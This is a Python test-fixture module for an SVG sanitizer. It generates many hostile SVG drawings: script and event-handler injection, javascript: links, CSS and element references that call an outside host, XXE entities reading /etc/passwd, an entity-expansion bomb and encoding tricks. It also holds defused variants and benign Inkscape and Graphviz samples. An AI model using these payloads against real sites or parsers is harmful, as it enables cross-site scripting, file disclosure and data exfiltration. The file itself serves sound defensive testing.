"""Attacks in SVG drawings, each of which tries to set `window.mia` or to ask another host; and good drawings."""

from __future__ import annotations

import base64
from html import escape

from payloads import HOST, JS, PAYLOADS
from sample_pictures import NOTED, PNG

HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40"'
_SVG_IN_DATA = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}"/>'.encode()).decode()
ON_THE_ROOT = (
    f'onload="{JS}"',
    f'ONLOAD="{JS}"',
    f'onclick="{JS}"',
    f'xml:base="https://{HOST}/"',
    f'style="background:url(https://{HOST}/a)"',
    f'style="background:u\\72l(https://{HOST}/a)"',
    f'style="background:u\\rl(https://{HOST}/a)"',
    f'style="background:url(/**/https://{HOST}/a)"',
    f'style="fill:&#x75;rl(https://{HOST}/a)"',
    f"style=\"background:image-set('https://{HOST}/a' 1x)\"",
    f'filter="url(https://{HOST}/a.svg#f)"',
    f"fill=\"URL( '//{HOST}/a.svg#f')\"",
    f'xmlns:h="http://www.w3.org/1999/xhtml" h:onload="{JS}" onbegin="{JS}"',
)
INSIDE = (
    f"<script>{JS}</script>",
    f"<script href='https://{HOST}/a.js'/>",
    f"<script xlink:href='data:text/javascript,{JS}'/>",
    f"<script><![CDATA[{JS}]]></script>",
    f"<g><script type='text/ecmascript'>{JS}</script></g>",
    f"<x:script xmlns:x='http://www.w3.org/2000/svg'>{JS}</x:script>",
    f"<script xmlns='http://www.w3.org/1999/xhtml'>{JS}</script>",
    f"<h:iframe xmlns:h='http://www.w3.org/1999/xhtml' src='javascript:parent.{JS}'/>",
    f"<h:img xmlns:h='http://www.w3.org/1999/xhtml' src='x' onerror='{JS}'/>",
    f"<h:link xmlns:h='http://www.w3.org/1999/xhtml' rel='stylesheet' href='https://{HOST}/a.css'/>",
    f"<h:meta xmlns:h='http://www.w3.org/1999/xhtml' http-equiv='refresh' content='0;url=https://{HOST}/'/>",
    f"<h:body xmlns:h='http://www.w3.org/1999/xhtml' onload='{JS}'/>",
    f"<foreignObject><p xmlns='http://www.w3.org/1999/xhtml' onclick='{JS}'>x</p></foreignObject>",
    f"<foreignObject width='9'><iframe xmlns='http://www.w3.org/1999/xhtml' src='//{HOST}/'/></foreignObject>",
    "<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'>text</p></foreignObject>",
    "<foreignObject><text y='9'>text</text></foreignObject>",
    f"<a href='javascript:{JS}'><text y='9'>x</text></a>",
    f"<a xlink:href='  java&#10;script:{JS}'><text y='9'>x</text></a>",
    f"<a xlink:href='&#9;javascript&#13;:{JS}'><text y='9'>x</text></a>",
    f"<a href='data:text/html,&lt;script&gt;{JS}&lt;/script&gt;'><text y='9'>x</text></a>",
    f"<a href='vbscript:{JS}'><text y='9'>x</text></a>",
    f"<a href='//{HOST}/'><text y='9'>x</text></a>",
    f"<a href='\\\\{HOST}\\x'><text y='9'>x</text></a>",
    f"<a href='https://example.org/' ping='https://{HOST}/'><text y='9'>x</text></a>",
    f"<a><animate attributeName='href' values='javascript:{JS}'/><text y='9'>x</text></a>",
    f"<a><set attributeName='xlink:href' to='javascript:{JS}'/><text y='9'>x</text></a>",
    f"<rect><set attributeName='onmouseover' to='{JS}'/></rect>",
    f"<animate onbegin='{JS}' attributeName='x' dur='1s'/>",
    f"<set onend='{JS}' attributeName='x' to='1' dur='1s'/>",
    f"<image href='https://{HOST}/a.png' width='9' height='9'/>",
    f"<image xlink:href='//{HOST}/a.png' width='9' height='9'/>",
    "<image href='bild.png' width='9' height='9'/>",
    "<image href='file:///etc/hostname' width='9' height='9'/>",
    f"<image href='data:image/svg+xml;base64,{_SVG_IN_DATA}' width='9' height='9'/>",
    f"<image href='x' onerror='{JS}' width='9' height='9'/>",
    f"<use href='https://{HOST}/a.svg#x'/>",
    f"<use href='data:image/svg+xml;base64,{_SVG_IN_DATA}#x'/>",
    "<use xlink:href='annan.svg#x'/>",
    f"<filter id='f'><feImage href='https://{HOST}/a.png'/></filter><rect filter='url(#f)' width='9' height='9'/>",
    f"<linearGradient id='g' href='https://{HOST}/a.svg#g'/>",
    f"<textPath href='https://{HOST}/a.svg#p'>x</textPath>",
    f"<style>@import url(https://{HOST}/a.css);</style>",
    f"<style>@import 'https://{HOST}/a.css';</style>",
    f"<style>@\\69mport 'https://{HOST}/a.css';</style>",
    f"<style>rect{{fill:url(https://{HOST}/a)}}</style><rect width='9' height='9'/>",
    f"<style>rect{{fill:url(&quot;https://{HOST}/a&quot;)}}</style><rect width='9' height='9'/>",
    f"<style><![CDATA[rect{{fill:url( 'https://{HOST}/a')}}]]></style><rect width='9' height='9'/>",
    f"<style>*{{background:u<!-- x -->rl(https://{HOST}/a)}}</style>",
    f"<style>@font-face{{font-family:a;src:url(https://{HOST}/a)}} text{{font-family:a}}</style><text y='9'>x</text>",
    f"<style>@font-face{{font-family:a;src:url(data:text/html,{JS})}}</style>",
    f"<g><style>*{{behavior:url(https://{HOST}/a.htc)}}</style></g>",
    f"<handler xmlns='http://www.w3.org/2001/xml-events' type='text/ecmascript'>{JS}</handler><g onload='{JS}'/>",
    f"<video href='https://{HOST}/a.mp4'/>",
    f"<iframe src='https://{HOST}/'/>",
    f"<embed src='https://{HOST}/a.swf'/>",
    f"<object data='https://{HOST}/'/>",
    f"<mask id='m' mask='url(https://{HOST}/a.svg#m)'/>",
    f"<cursor href='https://{HOST}/a.cur'/><rect style='cursor:url(https://{HOST}/a.cur),auto' width='9' height='9'/>",
    f"<font-face-src><font-face-uri href='https://{HOST}/a.svg'/></font-face-src>",
    f"<discard onload='{JS}'/>",
    f"<title><script>{JS}</script></title>",
    f"<desc><img xmlns='http://www.w3.org/1999/xhtml' src='x' onerror='{JS}'/></desc>",
    f"<switch><g requiredFeatures='x'/><foreignObject><x onload='{JS}'/></foreignObject></switch>",
)
WHOLE = (
    f"{HEAD}><a xlink:href='&#1;javascript:{JS}'><text y='9'>x</text></a></svg>",
    f'<?xml-stylesheet href="https://{HOST}/a.css"?>{HEAD}/>',
    f'<?xml-stylesheet type="text/xsl" href="data:text/xml,{JS}"?>{HEAD}/>',
    f'<!DOCTYPE svg [<!ENTITY x "<script>{JS}</script>">]>{HEAD}>&x;</svg>',
    f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{HEAD}><text y="9">&x;</text></svg>',
    f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://{HOST}/a.dtd"> %x;]>{HEAD}/>',
    f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{JS}">]>{HEAD}/>',
    "<!DOCTYPE svg ["
    + "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(9))
    + f'<!ENTITY a0 "ha">]>{HEAD}><text>&a9;</text></svg>',
    f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{JS}</script></html>',
    f'<x xmlns:s="http://www.w3.org/1999/xhtml"><s:script>{JS}</s:script></x>',
    f"<svg><script>{JS}</script></svg>",
    f'<?xml version="1.0" encoding="utf-7"?>{HEAD}><text>+ADw-script+AD4-{JS}+ADw-/script+AD4-</text></svg>',
    f'<?xml version="1.0" encoding="cp037"?>{HEAD}/>',
    f'<!doctype html>{HEAD} onload="{JS}"/>',
)


DEFUSED = (
    f"<metadata><script>{JS}</script></metadata>",
    f"<metadata><metadata/><script>{JS}</script></metadata><text y='9'>x</text>",
    f"<x:g xmlns:x='urn:x' onload='{JS}'><s:script xmlns:s='http://www.w3.org/2000/svg'>{JS}</s:script></x:g>",
    f"<g xmlns=''><script>{JS}</script></g>",
    f"<g xmlns='urn:x'><script xmlns='http://www.w3.org/1999/xhtml'>{JS}</script></g>",
    f"<x:script xmlns:x='urn:x'>{JS}</x:script>",
    f"<math xmlns='http://www.w3.org/1998/Math/MathML'><mtext><script>{JS}</script></mtext></math>",
    f"<!-- --><text y='9'>x</text><!-- <script>{JS}</script> -->",
    f"<!--<!DOCTYPE x><script>{JS}</script>--><text y='9'>x</text>",
    f"<?php {JS} ?><?xml-styleshee href='https://{HOST}/a.css'?>",
    f"<text y='9'><![CDATA[<script>{JS}</script>]]></text>",
    f"<text y='9'>&lt;script&gt;{JS}&lt;/script&gt;</text>",
    f"<g x:y='--' xmlns:x='urn:x'/><g x:y='\"> &lt;script>{JS}' xmlns:x='urn:x'/>",
    f"<g xmlns:x='urn:x' x:a='b=\"c' id='a x:b=\"{JS}\"'/>",
    f"<a href='mailto:a@{HOST}'><text y='9'>x</text></a>",
    f"<a href='sida.html?javascript:{JS}'><text y='9'>x</text></a>",
    f"<a href='#javascript:{JS}'><text y='9'>x</text></a>",
    f"<title>&lt;img src=x onerror={JS}&gt;</title>",
    f"<desc id='&quot; onload=&quot;{JS}'/>",
    "<style>rect{fill:url('#g')}</style><rect width='9' height='9'/>",
)
"""Attacks that cutting out or reading right makes harmless."""


def attacks() -> dict[str, bytes]:
    """Every attack as a file of its own, those on pages too."""
    inside = (*INSIDE, *DEFUSED, *(one for one in PAYLOADS if "<" in one))
    texts = (
        *(f"{HEAD} {attribute}/>" for attribute in ON_THE_ROOT),
        *(f"{HEAD}>{one}</svg>" for one in inside),
        f"{HEAD}>{''.join(f'<text>{escape(one)}</text>' for one in PAYLOADS)}</svg>",
        *WHOLE,
    )
    files = {f"{number}.svg": text.encode() for number, text in enumerate(texts)}
    return files | {"utf-16.svg": f"{HEAD} onload='{JS}'/>".encode("utf-16")}


_PICTURE = base64.b64encode(PNG).decode()
INKSCAPE = f"""\
<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) by Fia Fiktiv -->
<svg width="210mm" height="297mm" viewBox="0 0 210 297" version="1.1" id="svg5"
   inkscape:version="1.2" sodipodi:docname="fia&gt;fiktiv.svg" inkscape:export-filename='C:\\Users\\Fia Fiktiv\\a.png'
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" xmlns="http://www.w3.org/2000/svg"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns:xlink="http://www.w3.org/1999/xlink"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cc="http://creativecommons.org/ns#"
   xmlns:dc="http://purl.org/dc/elements/1.1/">
  <sodipodi:namedview id="namedview7" pagecolor="#ffffff"><inkscape:grid type="xygrid"/></sodipodi:namedview>
  <defs id="defs2"><linearGradient id="a"><stop offset="0" style="stop-color:#ff0000"/></linearGradient>
    <linearGradient xlink:href="#a" id="b" inkscape:collect="always"/></defs>
  <metadata id="m"><rdf:RDF><cc:Work rdf:about=""><dc:creator><cc:Agent><dc:title>Fia Fiktiv</dc:title></cc:Agent>
  </dc:creator></cc:Work></rdf:RDF></metadata>
  <g inkscape:label="Lager Fia Fiktiv" inkscape:groupmode="layer" id="layer1">
    <rect style="fill:url(#b);stroke:none" width="60" height="60" x="10" y="10"/>
    <image width="8" height="5" xlink:href="data:image/png;base64,{_PICTURE[:40]}&#10;{_PICTURE[40:]}"
      sodipodi:absref="/home/fia/a.png"/>
    <text xml:space="preserve" x="20" y="20"><tspan sodipodi:role="line">Möte &amp; plan</tspan></text>
  </g>
</svg>
<!-- Fia Fiktiv -->
"""
GRAPHVIZ = """\
<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"
 "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg width="62pt" height="116pt" viewBox="0.00 0.00 62.00 116.00" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
<g id="graph0" class="graph" transform="scale(1 1) rotate(0)"><title>Plan</title>
<g id="a_node1"><a xlink:href="https://example.org/metod" xlink:title="Metod" target="_blank">
<ellipse fill="none" stroke="black" cx="27" cy="-90" rx="27" ry="18"/></a></g>
</g>
</svg>
"""
DRAWN = f"""\
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 400 200" role="img" aria-label="Flöde">
  <title>Flöde</title><desc>Från möte till plan</desc>
  <defs>
    <style class="style-fonts">@font-face {{ font-family: "V"; src: url("data:font/woff2;base64,d09GMg=="); }}
      .a {{ fill: url(#g); marker-end: url('#pil') }} .b:hover {{ opacity: .5 }}</style>
    <marker id="pil"/><clipPath id="k"><rect width="9" height="9"/></clipPath>
  </defs>
  <a href="metod.html"><rect class="a b" clip-path="url(#k)" data-name="x"/></a>
  <image href="data:image/jpeg;base64,{base64.b64encode(NOTED[".jpg"]).decode()}" width="9" height="9"/>
  <use href="#pil"/><circle r="5"><animate attributeName="r" values="5;6" begin="60s" dur="1s"/></circle>
  <a href="mailto:kansli@example.org"><text>Skriv (så): 1 < 2 är fel, 1 &lt; 2 är rätt</text></a>
</svg>
""".replace("1 < 2 är fel, ", "")
GOOD = {"inkscape": INKSCAPE, "graphviz": GRAPHVIZ, "ritad": DRAWN}
